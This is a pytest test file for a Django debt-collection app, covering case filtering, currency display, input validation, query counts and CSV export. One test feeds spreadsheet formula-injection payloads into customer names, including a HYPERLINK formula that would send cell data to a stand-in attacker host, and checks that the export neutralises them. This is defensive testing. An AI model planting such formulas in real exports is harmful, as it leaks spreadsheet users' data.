import csv
import datetime as dt
import io

import pytest

from dunning_site.accounts.services import payment_record
from dunning_site.accounts.tests.factories import CustomerFactory, InvoiceFactory
from dunning_site.collections.case_core import case_open
from dunning_site.collections.models import Case
from dunning_site.collections.tests.factories import standard_policy
from dunning_site.collections.tests.views.moment import NOW
from dunning_site.collections.views.cases import UTF8_BOM

pytestmark = pytest.mark.django_db


def open_case(*, segment: str, days: int, total: int = 10_000, currency: str = "EUR") -> Case:
    invoice = InvoiceFactory(
        customer=CustomerFactory(segment=segment),
        due_on=NOW.date() - dt.timedelta(days=days),
        total=total,
        currency=currency,
    )
    return case_open(customer=invoice.customer, currency=currency, policy=POLICY[0], invoices=[invoice], now=NOW)


POLICY: list = []


@pytest.fixture(autouse=True)
def policy():
    POLICY[:] = [standard_policy()]


def exported(client, query: str) -> list[dict]:
    response = client.get(f"/cases/export.csv?{query}")
    assert response["Content-Type"].startswith("text/csv")
    content = b"".join(response.streaming_content)
    assert content.startswith(UTF8_BOM.encode())
    return list(csv.DictReader(io.StringIO(content.decode("utf-8-sig"))))


def test_filtering_by_segment_and_days_overdue_and_exporting_the_same_rows(client, collector):
    wanted = [open_case(segment="enterprise", days=days) for days in (20, 35)]
    open_case(segment="enterprise", days=5)  # too recent
    open_case(segment="smb", days=40)  # other segment
    query = "segment=enterprise&days_min=15"
    page = client.get(f"/cases/?{query}").content.decode()
    for case in wanted:
        assert case.customer.name in page
    assert "2 cases" in page
    rows = exported(client, query)
    assert sorted(int(row["case"]) for row in rows) == sorted(case.pk for case in wanted)
    assert {row["segment"] for row in rows} == {"enterprise"}
    assert sorted(int(row["days_overdue"]) for row in rows) == [20, 35]
    assert rows[0]["amount_overdue"] == "100.00"


def test_amounts_show_with_their_currency(client, collector):
    open_case(segment="smb", days=10, total=123_456, currency="JPY")
    open_case(segment="smb", days=10, total=12_345, currency="KWD")
    page = client.get("/cases/").content.decode()
    assert "¥123,456" in page and "KWD12.345" in page


def test_search_finds_a_case_by_invoice_number(client, collector):
    case = open_case(segment="smb", days=10)
    other = open_case(segment="smb", days=10)
    page = client.get(f"/cases/?q={case.invoices.get().number}").content.decode()
    assert case.customer.name in page and other.customer.name not in page


def test_bad_filter_input_is_explained_not_an_error(client, collector):
    response = client.get("/cases/?days_min=-3&amount_min=lots")
    assert response.status_code == 200
    assert "Enter a number." in response.content.decode()


@pytest.mark.parametrize("query", ["amount_min=1e999999", "amount_max=1e250", "amount_min=-1e999999&currency=JPY"])
def test_an_amount_filter_larger_than_any_amount_is_explained_not_an_error(client, collector, query):
    case = open_case(segment="smb", days=10, currency="JPY")
    response = client.get(f"/cases/?{query}")
    assert response.status_code == 200
    page = response.content.decode()
    assert "Ensure that there are no more than 15 digits in total." in page
    assert case.customer.name not in page
    assert client.get(f"/cases/export.csv?{query}").status_code == 200


def test_amount_filters_are_in_the_chosen_currency_and_keep_the_bounds(client, collector):
    small = open_case(segment="smb", days=10, total=1_000, currency="JPY")
    large = open_case(segment="smb", days=10, total=1_001, currency="JPY")
    page = client.get("/cases/?currency=JPY&amount_min=1000.5").content.decode()
    assert large.customer.name in page and small.customer.name not in page
    page = client.get("/cases/?currency=JPY&amount_max=1000.5").content.decode()
    assert small.customer.name in page and large.customer.name not in page


@pytest.mark.parametrize("count", [10, 100])
def test_the_list_costs_the_same_queries_for_10_or_100_cases(client, collector, count, django_assert_max_num_queries):
    for _ in range(count):
        open_case(segment="smb", days=12)
    with django_assert_max_num_queries(14):
        response = client.get("/cases/?status=open")
    assert response.status_code == 200


@pytest.mark.parametrize("count", [10, 100])
def test_the_worklist_costs_the_same_queries_for_10_or_100_cases(
    client, collector, count, django_assert_max_num_queries
):
    for _ in range(count):
        open_case(segment="smb", days=12)
    with django_assert_max_num_queries(16):
        response = client.get("/")
    assert response.status_code == 200
    assert "New cases nobody has taken" in response.content.decode()


def test_without_filters_the_list_shows_the_active_cases(client, collector):
    active = open_case(segment="smb", days=10)
    resolved = open_case(segment="smb", days=10)
    payment_record(invoice=resolved.invoices.get(), amount=10_000)
    page = client.get("/cases/").content.decode()
    assert active.customer.name in page and resolved.customer.name not in page
    assert resolved.customer.name in client.get("/cases/?status=resolved").content.decode()
    assert active.customer.name in client.get("/cases/?paused=no").content.decode()


def test_an_export_with_filters_that_do_not_apply_exports_nothing(client, collector):
    open_case(segment="smb", days=12)
    assert exported(client, "days_min=lots") == []


@pytest.mark.parametrize(
    ("name", "cell"),
    [
        ('=HYPERLINK("https://evil.example/?"&A1,"Click")', '\'=HYPERLINK("https://evil.example/?"&A1,"Click")'),
        ("+33 6 12 34 56 78", "'+33 6 12 34 56 78"),
        ("-2+3", "'-2+3"),
        ("@SUM(1+1)", "'@SUM(1+1)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("Zoë Ærøskøbing", "Zoë Ærøskøbing"),
        ("株式会社 山田", "株式会社 山田"),
    ],
)
def test_the_export_neutralises_formulas_in_text_and_keeps_accents(client, collector, name, cell):
    case = open_case(segment="smb", days=12)
    case.customer.name = name
    case.customer.company = name
    case.customer.save()
    (row,) = exported(client, "status=active")
    assert row["customer"] == cell and row["company"] == cell


def test_the_export_keeps_numbers_numeric_even_negative(client, collector):
    case = open_case(segment="smb", days=12, total=12_345)
    Case.objects.filter(pk=case.pk).update(anchor_due_on=NOW.date() + dt.timedelta(days=3))
    (row,) = exported(client, "status=active")
    assert (row["amount_overdue"], row["days_overdue"]) == ("123.45", "-3")


@pytest.mark.parametrize(
    ("query", "explained"),
    [
        ("days_min=1000000", "Ensure this value is less than or equal to 36500."),
        ("days_max=1e10", "Ensure this value is less than or equal to 36500."),
        ("days_min=-1", "Ensure this value is greater than or equal to 0."),
        ("days_min=2.5", "Ensure that there are no more than 0 decimal places."),
        ("days_max=NaN", "Enter a number."),
        ("policy=99999999999999999999", "Select a valid choice."),
        ("assignee=99999999999999999999", "Select a valid choice."),
        ("o=-nonsense", "Select a valid choice."),
    ],
)
def test_a_number_filter_out_of_range_is_explained_never_a_server_error(client, collector, query, explained):
    case = open_case(segment="smb", days=10)
    response = client.get(f"/cases/?{query}")
    assert response.status_code == 200
    page = response.content.decode()
    assert explained in page
    assert case.customer.name not in page
    assert exported(client, query) == []


def test_the_widest_days_filter_still_applies(client, collector):
    case = open_case(segment="smb", days=10)
    assert (
        case.customer.name in client.get("/cases/?days_min=0&days_max=36500&page=99999999999999999999").content.decode()
    )
    assert [row["customer"] for row in exported(client, "days_min=0&days_max=36500")] == [case.customer.name]


def test_the_list_totals_what_the_listed_cases_pursue_per_currency(client, collector):
    open_case(segment="smb", days=20, total=10_000)
    partly_paid = open_case(segment="smb", days=12, total=5_000)
    payment_record(invoice=partly_paid.invoices.get(), amount=1_250, method="bank_transfer")
    open_case(segment="smb", days=20, total=3_000, currency="JPY")
    open_case(segment="enterprise", days=30, total=7_000)  # filtered out below
    page = client.get("/cases/?segment=smb").content.decode()
    assert "Total overdue in EUR, 2 cases" in page and "€137.50" in page
    assert "Total overdue in JPY, 1 case" in page and "¥3,000" in page
    assert "€207.50" not in page  # never the enterprise case, never across currencies
